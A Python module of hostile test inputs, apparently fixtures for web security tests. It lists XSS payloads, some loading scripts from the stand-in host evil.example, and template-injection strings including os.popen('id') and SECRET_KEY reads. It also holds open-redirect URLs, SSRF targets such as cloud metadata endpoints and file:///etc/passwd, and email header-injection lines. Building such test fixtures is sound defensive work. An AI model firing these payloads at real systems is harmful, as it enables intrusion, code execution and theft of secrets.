"""What intruders type: markup that would run, code for templates, addresses that lead elsewhere, broken headers."""

from itertools import product

# Each calls trap(), which a page of a test holds.
_EVENTS = ("onerror", "onload", "onfocus", "onmouseover", "onclick", "ontoggle", "onanimationstart", "onbegin")
_ELEMENTS = (
    "<img src=x {}=trap()>",
    "<svg {}=trap()>",
    "<body {}=trap()>",
    "<details open {}=trap()>",
    "<input autofocus {}=trap()>",
    "<video><source {}=trap()></video>",
    "<marquee {}=trap()>x</marquee>",
)
_SCRIPTS = (
    "<script>trap()</script>",
    "<ScRiPt>trap()</sCrIpT>",
    "<script/x>trap()</script>",
    "<script\n>trap()</script\n>",
    "<scr<script>ipt>trap()</scr</script>ipt>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<svg><script>trap()</script></svg>",
    "<math><mtext></mtext><script>trap()</script></math>",
    "<noscript><p title='</noscript><script>trap()</script>'>",
    "<template><script>trap()</script></template>",
    "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
    "<iframe src=javascript:trap()></iframe>",
    "<object data=javascript:trap()></object>",
    "<embed src=javascript:trap()>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:trap()'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<form action=https://evil.example/><button>x</button></form>",
    "<a href=javascript:trap()>x</a>",
    "<a href='java\tscript:trap()'>x</a>",
    "<a href='data:text/html,<script>trap()</script>'>x</a>",
    "<img src='https://evil.example/x.png'>",
)
_OUT_OF_PLACE = (
    "</title>{}",
    "</textarea>{}",
    "</select>{}",
    "</script>{}",
    "</style>{}",
    "-->{}",
    "]]>{}",
    '">{}',
    "'>{}",
    "`>{}",
    "&lt;/p&gt;{}",
    "</svg>{}",
)
_BREAKS = ("<script>trap()</script>", "<img src=x onerror=trap()>")
_OTHERS = (
    '" onfocus=trap() autofocus x="',
    "' onfocus=trap() autofocus x='",
    "javascript:trap()",
    "[x](javascript:trap())",
    "[x](data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=)",
    '![x](x"onerror="trap())',
    "<javascript:trap()>",
    "<div hx-get=/ hx-trigger=load hx-on::after-request=trap()>x</div>",
    "<div data-hx-on:click=trap() data-hx-trigger=load>x</div>",
    "<p style=background:url(https://evil.example/x)>x</p>",
    "{{constructor.constructor('trap()')()}}",
    "${trap()}",
    r"\u003cscript\u003etrap()\u003c/script\u003e",
    "%3Cscript%3Etrap()%3C/script%3E",
    "&#60;script&#62;trap()&#60;/script&#62;",
    "<<script>trap()//<</script>",
)

XSS = [
    *(element.format(event) for element, event in product(_ELEMENTS, _EVENTS)),
    *_SCRIPTS,
    *(place.format(broken) for place, broken in product(_OUT_OF_PLACE, _BREAKS)),
    *_OTHERS,
]

TEMPLATES = [
    "{{ 7*7 }}", "{{7*'7'}}", "{% debug %}", "{% load static %}", "{% include 'base.html' %}", "{% csrf_token %}",
    "{{ settings.SECRET_KEY }}", "{{ request.user.password }}", "{{ request.session.items }}", "{{ form.media }}",
    "{name.__class__.__init__.__globals__}", "{0.__class__}", "{self}", "%(password)s", "%s%s%s%n", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "#set($x=7*7)$x", "*{7*7}", "[[${7*7}]]", "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "{php}echo 7*7;{/php}", "#eval(\"7*7\")",
]  # fmt: skip

REDIRECTS = [
    "https://evil.example/", "http://evil.example", "//evil.example", "///evil.example", "////evil.example/",
    "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\t/evil.example", "\t//evil.example",
    "/\n/evil.example", "\r\n//evil.example", "https:evil.example", "https:/evil.example", "https:///evil.example",
    "HTTPS://EVIL.EXAMPLE", "javascript:trap()", "JaVaScRiPt:trap()", "java\nscript:trap()",
    "data:text/html,<script>trap()</script>", "vbscript:trap()", "ftp://evil.example", "http://testserver@evil.example",
    "http://testserver.evil.example", "https://evil.example#testserver", "https://evil.example?testserver",
    "//evil.example/%2f..", "/%09/evil.example", "http://[::1]@evil.example", "https://evil%E3%80%82example",
]  # fmt: skip

SSRF = [
    "http://127.0.0.1/", "http://127.0.0.1:6379/", "http://localhost/", "http://localhost:5432/", "http://[::1]/",
    "http://[::]/", "http://0.0.0.0/", "http://0/", "http://127.1/", "http://2130706433/", "http://0x7f000001/",
    "http://0177.0.0.1/", "http://169.254.169.254/latest/meta-data/", "http://[fd00:ec2::254]/latest/meta-data/",
    "http://metadata.google.internal/computeMetadata/v1/", "http://100.100.100.200/latest/meta-data/",
    "http://192.168.0.1/", "http://10.0.0.1/", "http://172.16.0.1/", "http://100.64.0.1/", "http://198.18.0.1/",
    "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://[fe80::1]/", "http://[fc00::1]/",
    "http://localtest.me/", "http://127.0.0.1.nip.io/", "http://spoofed.burpcollaborator.net/",
    "http://rebind.it/", "http://user:pass@127.0.0.1/", "http://127.0.0.1#@example.org/", "http://example.org@127.0.0.1/",
    "gopher://127.0.0.1:6379/_FLUSHALL", "file:///etc/passwd", "dict://127.0.0.1:11211/stats", "ftp://127.0.0.1/",
    "ldap://127.0.0.1/", "jar:http://127.0.0.1!/", "unix:///var/run/docker.sock", "http://\u24db\u24de\u24d2al\u24d7ost/",
]  # fmt: skip

HEADERS = [
    f"Mina{ending}{header}"
    for ending, header in product(
        ("\r\n", "\n", "\r", "\u2028", "\x0b\x0c\x85"),
        ("Bcc: all@evil.example", "Content-Type: text/html\r\n\r\n<p>evil.example</p>", "Subject: evil.example"),
    )
]
